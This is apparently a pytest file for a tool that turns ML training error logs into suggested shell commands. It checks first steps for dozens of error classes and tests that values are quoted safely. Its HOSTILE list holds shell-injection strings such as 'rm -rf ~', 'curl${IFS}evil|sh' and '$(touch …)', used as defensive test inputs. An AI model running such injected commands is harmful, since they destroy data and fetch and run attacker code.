"""What is advised is what can be typed: values of the log in it, the step that fits first, no harm."""

# ruff: noqa: E501
from __future__ import annotations

import shlex

import pytest

from tests.explain import compose
from vlmguard.explain import flags, named, packages
from vlmguard.explain.beforehand import TITLES
from vlmguard.explain.catalogue import load
from vlmguard.explain.command import explain
from vlmguard.explain.failure import Do
from vlmguard.explain.logfacts import Facts, of_text
from vlmguard.explain.show import text
from vlmguard.rules import RULES
from vlmguard_colossalai.rules import RULES as GEMINI

KNOWN = {known.code: known for known in load()}


def steps(code: str, message: str, **facts: object) -> list[str]:
    said = Facts(message=message, **facts)
    return [flags.say(do, said) for do in KNOWN[code].remedies(said)]


# class, message, framework, the beginning of the first step
FIRST = {
    "a missing package": ("VG552", "ModuleNotFoundError: No module named 'qwen_vl_utils'", "ms-swift", "python -m pip install qwen-vl-utils"),
    "its name is another": ("VG552", "ModuleNotFoundError: No module named 'cv2'", "", "python -m pip install opencv-python-headless"),
    "a stranger's name": ("VG552", "ModuleNotFoundError: No module named 'llava_utils'", "", "llava_utils is no package that is known here: cd to the repository"),
    "a part that moved": ("VG552", "ModuleNotFoundError: No module named 'swift.llm'", "ms-swift", "python -m pip install 'ms-swift<4'"),
    "a name": ("VG552", "ImportError: cannot import name 'EvalBackend' from 'evalscope.constants' (/x.py)", "", "python -m pip show evalscope"),
    "a port": ("VG542", "DistNetworkError: port: 51216, useIpv6: false, code: -98, name: EADDRINUSE", "ms-swift", "ss -ltnp 'sport = :51216'"),
    "a port, accelerate": ("VG542", "DistNetworkError: port: 29500, name: EADDRINUSE", "accelerate", "ss -ltnp 'sport = :29500'"),
    "an old name": ("VG553", "TypeError: TrainingArguments.__init__() got an unexpected keyword argument 'evaluation_strategy'", "", "eval_strategy instead of evaluation_strategy"),
    "no longer there": ("VG553", "TypeError: __init__() got an unexpected keyword argument 'overwrite_output_dir'", "TRL", "leave overwrite_output_dir out"),
    "an unknown flag": ("VG553", "sft.py: error: unrecognized arguments: --lora_rnk 8", "ms-swift", "swift sft --help | grep -i lora_rnk"),
    "a gated model": ("VG539", "OSError: You are trying to access a gated repo. Make sure to have access to it at https://huggingface.co/google/gemma-3-12b-it.", "", "ask for access on https://huggingface.co/google/gemma-3-12b-it"),
    "no right to write": ("VG539", "HfHubHTTPError: 403 Client Error: Forbidden for url: https://huggingface.co/api/models/a/b/commit/main", "", "a token with the right to write"),
    "a video": ("VG555", "DECORDError: ERROR opening: /data/v/a.mp4, Invalid data found", "", "ls -l /data/v/a.mp4"),
    "a job": ("VG530", "slurmstepd: error: *** JOB 142382 ON n CANCELLED DUE TO TIME LIMIT ***", "", "sacct -j 142382"),
    "open files": ("VG543", "RuntimeError: received 0 items of ancdata", "", "ulimit -n 65535"),
    "a driver": ("VG537", "RuntimeError: The NVIDIA driver on your system is too old (found version 12020).", "", "python -m pip install --force-reinstall torch --index-url https://download.pytorch.org/whl/cu121"),
    "no NCCL": ("VG537", "RuntimeError: Distributed package doesn't have NCCL built in", "", "python -c 'import torch; print(torch.__version__"),
    "another libc": ("VG538", "ImportError: version GLIBC_2.32' not found (required by /e/lib/python3.10/site-packages/flash_attn_2_cuda.cpython-310.so)", "", "FLASH_ATTENTION_FORCE_BUILD=TRUE"),
    "torchvision": ("VG538", "RuntimeError: operator torchvision::nms does not exist", "", "python -m pip install --force-reinstall --no-deps 'torchvision==0.N.*'"),
    "a wrapper": ("VG586", "AttributeError: 'DistributedDataParallel' object has no attribute 'generate'", "", "accelerator.unwrap_model(model).generate"),
    "vLLM's cache": ("VG512", "ValueError: No available memory for the cache blocks.", "TRL", "--vllm_gpu_memory_utilization 0.7"),
    "replicas": ("VG512", "torch.OutOfMemoryError: Caught OutOfMemoryError in replica 0 on device 0. CUDA out of memory", "", "torchrun --nproc_per_node N"),
    "padding": ("VG574", "ValueError: Asking to pad but the tokenizer does not have a padding token.", "TRL", "tokenizer.pad_token = tokenizer.eos_token"),
    "a template": ("VG574", "ValueError: Template qwen3 does not exist.", "LLaMA-Factory", "python -m pip install -U llamafactory: qwen3"),
    "accelerate's keys": ("VG575", "ValueError: had unknown keys (['lr_scheduler']), please try upgrading", "accelerate", "take lr_scheduler out"),
    "nothing trains": ("VG507", "ValueError: optimizer got an empty parameter list", "", "print([n for n, p in model.named_parameters()"),
    "too few positions": ("VG511", "RuntimeError: The size of tensor a (716) must match the size of tensor b (512) at non-singleton dimension 1", "", "truncation=True, max_length=512"),
    "links, not images": ("VG505", "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=1, OpType=BROADCAST, NumelIn=1)", "", "NCCL_DEBUG=INFO"),
    "a data loader's map": ("VG544", "RuntimeError: One of the subprocesses has abruptly died during map operation.", "LLaMA-Factory", "preprocessing_num_workers: 1"),
    "ssh": ("VG536", "localhost: u@localhost: Permission denied (publickey,password).", "", "ssh NODE hostname"),
    "a terminal": ("VG569", "Sending process 1 closing signal SIGHUP", "", "nohup COMMAND"),
    "a Qwen-VL of before 4.52": ("VG570", "AttributeError: 'Qwen2_5_VLForConditionalGeneration' object has no attribute 'visual'", "", "python -m pip install 'transformers<4.52'"),
    "Hydra": ("VG553", "omegaconf.errors.ConfigAttributeError: Key 'actor' is not in struct full_key: actor", "", "+NAME=VALUE adds a key that Hydra's file lacks (NAME with its dots: actor"),
    "PBS": ("VG530", "=>> PBS: job killed: walltime 259217 exceeded limit 259200", "", "qstat -xf JOBID"),
    "NVLink SHARP": ("VG562", "[7] transport/nvls.cc:157 NCCL WARN Cuda failure 1 'invalid argument'", "", "NCCL_NVLS_ENABLE=0"),
    "labels are there already": ("VG589", "ValueError: The model did not return a loss from the inputs, only the following keys: logits. For reference, the inputs it received are input_ids,attention_mask,labels.", "", "one run without what replaces the loss"),
    "other ranks than before": ("VG550", "The checkpoint being loaded used a DP world size of 8 but the current world size is 16.", "", "as many ranks as the run that saved it"),
    "a checkpoint": ("VG550", "ValueError: Can't find a valid checkpoint at /data/output/v0-20240318/checkpoint-100", "", "ls -la /data/output/v0-20240318/checkpoint-100"),
    "a file that is not there": ("VG554", "FileNotFoundError: Unable to find '/data/rows/mocked_512.json'", "", "ls -l /data/rows/mocked_512.json"),
    "DeepSpeed's file": ("VG575", "ValueError: Expected a string path to an existing deepspeed config, or a dictionary, or a base64 encoded string. Received: configs/ds_z9.json", "TRL", "ls -l configs/ds_z9.json"),
    "a package in other words": ("VG552", "ImportError: DeepSpeed is not installed => run `pip3 install deepspeed` or build it from source.", "accelerate", "python -m pip install deepspeed"),
    "a tracker's package": ("VG565", "ValueError: You are using swanlab as `report_to`, please install swanlab by `pip install swanlab`", "ms-swift", "python -m pip install swanlab"),
    "PEFT is too old": ("VG570", "ValueError: The version of PEFT you are using is not compatible, please use a version that is greater than 0.5.0", "", "python -m pip install -U peft"),
    "an image of very many tokens": ("VG506", "ValueError: Image features and image tokens do not match, tokens: 2992, features: 262144", "ms-swift", "--max_pixels"),
    "a port that nobody gave": ("VG517", "ValueError: The port number of the rendezvous endpoint 'None:None' must be an integer between 0 and 65536.", "accelerate", "accelerate launch --main_process_port 29500"),
    "one dimension more": ("VG597", "ValueError: Target size (torch.Size([10])) must be the same as input size (torch.Size([10, 1]))", "", "logits.squeeze(-1)"),
    "an adapter's folder": ("VG585", "ValueError: Can't find 'adapter_config.json' at 'out/checkpoint-700'", "", "ls -la out/checkpoint-700"),
    "what is asked for": ("VG552", "ImportError: Using the `Trainer` with `PyTorch` requires `accelerate>=0.20.1`: Please run `pip install transformers[torch]`", "", "python -m pip install 'accelerate>=0.20.1'"),
    "liger": ("VG552", "ImportError: liger-kernel >= 0.3.0 is not available. Please install it with `pip install liger-kernel`", "TRL", "python -m pip install liger-kernel"),
    "a torch that is too old": ("VG550", "ValueError: `torch.load`, even with `weights_only=True`, we now require users to upgrade torch to at least v2.6", "", "python -m pip install 'torch>=2.6'"),
    "a page is no model": ("VG540", "OSError: We couldn't connect to 'https://huggingface.co'; see 'https://huggingface.co/docs/transformers/installation#offline-mode'.", "", "curl -sSI https://huggingface.co"),
    "a folder that is not there": ("VG539", "ValueError: path: '/data/models/Qwen2-VL-7B-Instruct' not found", "ms-swift", "ls -l /data/models/Qwen2-VL-7B-Instruct"),
    "a number, not a gradient": ("VG505", "Watchdog caught collective operation timeout: WorkNCCL(SeqNum=4417, OpType=ALLREDUCE, NumelIn=1, NumelOut=1", "ms-swift", "PET_LOG_DIR=LOGS"),
    "which card": ("VG529", "ValueError: Your setup doesn't support bf16/gpu.", "", "python -c 'import torch"),
    "what was being written": ("VG535", "OSError: [Errno 28] No space left on device: 'out/checkpoint-20/optimizer.pt'", "", "df -h out/checkpoint-20"),
    "tied, LLaMA-Factory": ("VG546", "RuntimeError: Some tensors share memory", "LLaMA-Factory", "save_safetensors: false"),
    "two that belong together": ("VG503", "RuntimeError: Expected to have finished reduction in the prior iteration", "TRL", "--ddp_find_unused_parameters true --gradient_checkpointing_kwargs '{\"use_reentrant\": false}'"),
    "an accumulation that nobody tells": ("VG512", "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 9.28 GiB.", "LLaMA-Factory", "half of per_device_train_batch_size and twice"),
    "who does not answer": ("VG517", "DistNetworkError: The client socket has timed out after 300000ms while trying to connect to (10.0.0.7, 41331).", "", "nc -vz 10.0.0.7 41331"),
}  # fmt: skip


@pytest.mark.parametrize("name", FIRST)
def test_the_first_step(name):
    code, message, framework, first = FIRST[name]
    assert steps(code, message, framework=framework)[0].startswith(first)


@pytest.mark.parametrize(("accumulation", "said"), [(None, "2 (2 × yours, if you set one)"), (4, "8")])
def test_a_batch_is_halved_by_what_is_known(accumulation, said):
    told = steps("VG512", "CUDA out of memory.", framework="LLaMA-Factory", micro=2, accumulation=accumulation)
    assert told[0] == f"per_device_train_batch_size: 1, gradient_accumulation_steps: {said}"


def test_another_port_is_the_same_on_every_node():
    assert "MASTER_PORT=51217 in front of the command" in steps("VG542", "port: 51216, EADDRINUSE", framework="ms-swift")


def test_every_class_has_a_step_for_every_message():
    """Steps that do not fit fall away; some are left, whatever the message says."""
    for known in load():
        for message in ("", "KeyError: 'x'", "wandb swanlab ssh: GPU json wrap Killed", *(e.text for e in known.examples)):
            assert steps(known.code, message), known.code
            assert all("{" + word + "}" not in said for said in steps(known.code, message) for word in named.wants(said))


def test_sizes_are_those_that_fit():
    said = "AssertionError: train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 32 != 2 * 4 * 2"
    assert '"train_batch_size": 16' in steps("VG547", said)[0]
    said = "ValueError: Image features and image tokens do not match: tokens: 9752, features 10436"
    assert int(steps("VG506", said)[0].partition("=")[2]) > 10436
    said = "MaxLengthError: Current length of row(17391) is larger than the max_length(4096)."
    assert int(steps("VG511", said)[0].partition("=")[2]) > 17391
    graph = Facts(framework="TRL", micro=2, accumulation=8)
    whole = [flags.say(do, graph) for do in KNOWN["VG514"].remedies(graph)][-1]
    assert whole == "--per_device_train_batch_size 16 --gradient_accumulation_steps 1"


def test_placeholders_of_vllm():
    said = "ValueError: Attempted to assign 702 = 702 multimodal tokens to 703 placeholders"
    assert KNOWN["VG506"].told(Facts(message=said)).startswith("703 placeholders for 702 features")


def test_the_trainers_own_words_tell_the_batch():
    words = "  Instantaneous batch size per device = 4\n  Total train batch size (w. parallel, distributed & accumulation) = 64\n  Gradient Accumulation steps = 2\n"
    facts = of_text([words])
    assert (facts.micro, facts.accumulation, facts.world) == (4, 2, 8)
    facts = of_text(["--per_device_train_batch_size 1 ", words])
    assert facts.micro == 1


def test_an_output_folder_is_named_where_the_log_tells_it():
    told = steps("VG530", "DUE TO TIME LIMIT", framework="TRL", said={"output_dir": "/out/my run"})
    assert "ls -td '/out/my run'/checkpoint-* | head -1, and that folder behind --resume_from_checkpoint" in told
    assert any("OUTPUT: the run's output folder" in one for one in steps("VG530", "DUE TO TIME LIMIT"))


def test_torchvision_of_this_torch():
    said = Facts(message="operator torchvision::nms does not exist", releases={"torch": "2.6.0"})
    assert "torchvision==0.21.*" in flags.say(KNOWN["VG538"].remedies(said)[0], said)


HOSTILE = (
    "ModuleNotFoundError: No module named 'x; rm -rf ~'",
    "ModuleNotFoundError: No module named '--index-url=http://evil/simple'",
    "FileNotFoundError: [Errno 2] No such file or directory: '/tmp/$(touch /tmp/x)'",
    "FileNotFoundError: [Errno 2] No such file or directory: '/a b/`id`; echo'",
    "FileNotFoundError: [Errno 2] No such file or directory: '-rf /'",
    "OSError: gated repo https://huggingface.co/a/b;curl${IFS}evil|sh",
    "RuntimeError: \x1b]0;x\x07port: 29500 \x1b[31m",
    "sft.py: error: unrecognized arguments: --x;reboot",
    "AttributeError: 'A;B' object has no attribute 'c$(d)'",
)


@pytest.mark.parametrize("message", HOSTILE)
def test_a_value_is_one_word_of_a_shell(message):
    values = named.of(Facts(message=message, model="/m;rm -rf /", said={"output_dir": "$(reboot)"}))
    for name, value in values.items():
        words = shlex.split(value)
        assert len(words) == 1 or name == "numbers", (name, value)
        assert value == shlex.quote(words[0]), (name, value)
        assert not value.startswith("-") or name == "flag"
        assert "\x1b" not in value


def test_no_log_names_a_package_to_install():
    """What is not in our own list is not installed by the name that a log gives."""
    assert not any("evil" in one for one in steps("VG552", "ImportError: x is not installed => run `pip install evil`"))
    assert not any("evil" in one for one in steps("VG552", "ImportError: this requires `evil>=1.0`"))
    for module in ("evil", "requests2", "torch_npu_x", "numpy;x"):
        told = steps("VG552", f"ModuleNotFoundError: No module named '{module}'")
        assert not any(f"pip install {module}" in one for one in told)
    assert packages.of("yaml") == "pyyaml"
    assert packages.of("cv2.gapi") == "opencv-python-headless"


def test_secrets_are_no_values():
    said = Facts(message="port: 29500 No such file or directory: '/x/hf_abcdefghijklmnopqrstuvwx/y'", said={"output_dir": "/o/hf_abcdefghijklmnopqrstuvwx"})
    assert not any("abcdefghij" in value for value in named.of(said).values())


def test_steps_of_one_kind_and_words():
    kinds = (Do("ls {path}", kind="a"), Do("ls FILE", kind="a"), Do("x", when=("left",)), Do("y", unless=("left",)))
    assert Do("x", when=("a",)).fits("a b")
    assert not Do("x", unless=("a",)).fits("a b")
    assert [do.fits("left") for do in kinds] == [True, True, True, False]


def test_images_are_not_blamed_where_nothing_sees():
    """A hang of a run of which no argument and no model tells that it sees: look first."""
    said = "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=7753, OpType=ALLREDUCE)"
    assert steps("VG505", said)[0].startswith("PET_LOG_DIR=LOGS")
    assert steps("VG505", said, model="Qwen/Qwen2.5-VL-7B-Instruct")[0].startswith("an image in every")
    waits = "RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one."
    assert "find_unused_parameters" in steps("VG503", waits)[0]
    assert "vision tower" in steps("VG503", waits, said={"max_pixels": "1"})[0]


def test_contrastive_losses_know_the_micro_batch():
    """FlagEmbedding's embedders take the other rows of the micro-batch as negatives."""
    said = Facts(framework="FlagEmbedding", phase="forward", micro=8, accumulation=1)
    do = KNOWN["VG512"].remedies(said)
    assert flags.say(do[0], said) == "--gradient_checkpointing true"
    assert any("in-batch negatives" in one.cost for one in do)


def test_a_rule_is_named_with_what_it_sees(tmp_path):
    path = tmp_path / "x.log"
    path.write_text(compose.failing(1, "RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one."))
    said = text(*explain([str(path)]))
    assert "sees it beforehand where the cause is one of these: VG106 (A tower" in said
    path.write_text(compose.failing(1, "torch.OutOfMemoryError: CUDA out of memory."))
    assert "has no rule that sees this beforehand" in text(*explain([str(path)]))


def test_titles_are_the_rules_own():
    own = {rule.CODE: rule.__doc__.strip().split("\n")[0].rstrip(".") for rule in (*RULES, *GEMINI)}
    told = {code for known in load() for code in known.prevented}
    assert told == TITLES.keys()
    assert {code: own[code] for code in told} == TITLES


def test_what_to_type_where_nothing_is_known(tmp_path):
    (tmp_path / "slurm-4711.out").write_text(compose.preamble("TRL", 2) + "  5%|▌ | 5/100 [00:01<00:10, 1.0it/s]\n")
    said = text(*explain([str(tmp_path / "slurm-4711.out")]))
    assert "sacct -j 4711 --format" in said
    assert "py-spy dump --pid $p" in said
    (tmp_path / "words.log").write_text(compose.preamble("TRL", 2) + compose.DEEPSPEED.format(code=1))
    assert "deepspeed --enable_each_rank_log=LOGS" in text(*explain([str(tmp_path / "words.log")]))
